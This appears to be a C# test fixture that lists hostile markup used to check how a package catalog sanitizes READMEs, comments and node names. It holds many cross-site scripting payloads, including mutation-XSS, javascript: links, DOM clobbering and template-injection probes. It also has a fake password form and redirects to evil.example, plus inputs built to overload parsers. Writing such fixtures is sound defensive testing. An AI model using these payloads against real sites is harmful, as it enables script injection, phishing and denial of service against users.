namespace Quilt.Tests.Catalog.Hostile;

/// <summary>
/// Markup of strangers. What of it runs leaves a mark: a dialog, <c>window.canary</c>, a request to another host, a
/// complaint of the content policy.
/// </summary>
internal static class HostileTexts
{
    public const string Script = "<script>window.canary=1;alert(1)</script>";
    public const string Image = "<img src=x onerror=\"window.canary=1;alert(1)\">";
    public const string Break = "\"'></td></pre></code></title></textarea></script>" + Script + Image;

    /// <summary>READMEs; each is one of a package of its own.</summary>
    public static IReadOnlyList<string> Readmes { get; } =
    [
        Script + "\n\n" + Image + "\n\n<svg onload=\"window.canary=1\"><animate onbegin=\"window.canary=1\"></svg>",
        "<iframe srcdoc=\"<script>parent.canary=1</script>\"></iframe><iframe src=\"https://evil.example/\"></iframe><object data=\"javascript:window.canary=1\"></object><embed src=\"https://evil.example/x.swf\">",
        "[a](javascript:window.canary=1) <a href=\"jav&#x09;ascript:window.canary=1\">b</a> <a href=\"data:text/html,<script>alert(1)</script>\">c</a> <a href=\"vbscript:x\">d</a>",
        "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css><div style=\"position:fixed;inset:0;background:url(https://evil.example/x.png)\">x</div>",
        "<form action=\"https://evil.example\"><input name=password type=password autofocus onfocus=\"window.canary=1\"><button>Sign in</button></form>",
        "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.canary=1&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=window.canary=1>\"></noscript><svg></p><style><a id=\"</style><img src=1 onerror=window.canary=1>\">",
        "<details open ontoggle=\"window.canary=1\">x</details><marquee onstart=\"window.canary=1\">x</marquee><video src=x onerror=\"window.canary=1\"></video><audio src=x onerror=\"window.canary=1\">",
        "<template><script>window.canary=1</script></template><slot></slot><dialog open>Sign in again</dialog><portal src=\"https://evil.example\">",
        "![x](https://evil.example/track.png) <img src=\"//evil.example/x.png\" srcset=\"https://evil.example/y.png 2x\"> <picture><source srcset=\"https://evil.example/z.png\"><img src=q></picture>",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) <img src=\"data:text/html,<script>alert(1)</script>\">",
        "<a id=\"main\" name=\"location\" href=\"#main\" class=\"button primary skip\">x</a><img name=\"cookie\" id=\"canary\"><form id=\"canary\"></form>",
        "<!-- unclosed " + Script,
        "<![CDATA[" + Script + "]]><?xml-stylesheet href=\"javascript:window.canary=1\"?><!ENTITY x \"y\">",
        "| a |\n|---|\n| " + Image + " |\n\n`" + Script + "`\n\n```html\n" + Script + "\n```\n\n[x]: javascript:window.canary=1\n\n[x]",
        Repeat("![a](", 100_000),
        Repeat("> ", 100_000),
        Repeat("<div>", 100_000),
        Repeat("<table><tr><td>", 100_000),
        Repeat("<b>", 60_000) + Repeat("\n\na", 60_000),
        Repeat("*a_ ", 100_000),
        Repeat("|", 50_000) + "\n" + Repeat("|-", 50_000),
        Repeat("[a](b)\n\n", 600_000) + Script,
    ];

    /// <summary>Comments, as long as they may be.</summary>
    public static IReadOnlyList<string> Comments { get; } =
    [
        Script + Image + "[x](javascript:window.canary=1) ![x](https://evil.example/x.png)",
        Repeat("<b>", 10_000),
        Repeat("![a](", 10_000),
        Repeat("<div>", 10_000) + "![x](data:image/png;base64,iVBORw0KGgo=)",
        Repeat("> ", 10_000),
    ];

    /// <summary>Names of nodes, which stand in trees, titles and addresses.</summary>
    public static IReadOnlyList<string> Names { get; } =
    [
        "<script>window.canary=1</script>",
        "\"><img src=x onerror=window.canary=1>",
        "javascript:window.canary=1",
        "'-alert(1)-'",
        "{{7*7}}${7*7}@(7*7)",
        "%3Cscript%3Ewindow.canary=1%3C%2Fscript%3E",
        "report\u202Efdp.exe",
        "new\nline\ttab",
        "#fragment?query=1&x",
        "..",
        new string('n', 1000),
        "😀 \u200B invisible",
    ];

    public static string Repeat(string part, int length) => string.Concat(Enumerable.Repeat(part, length / part.Length));
}
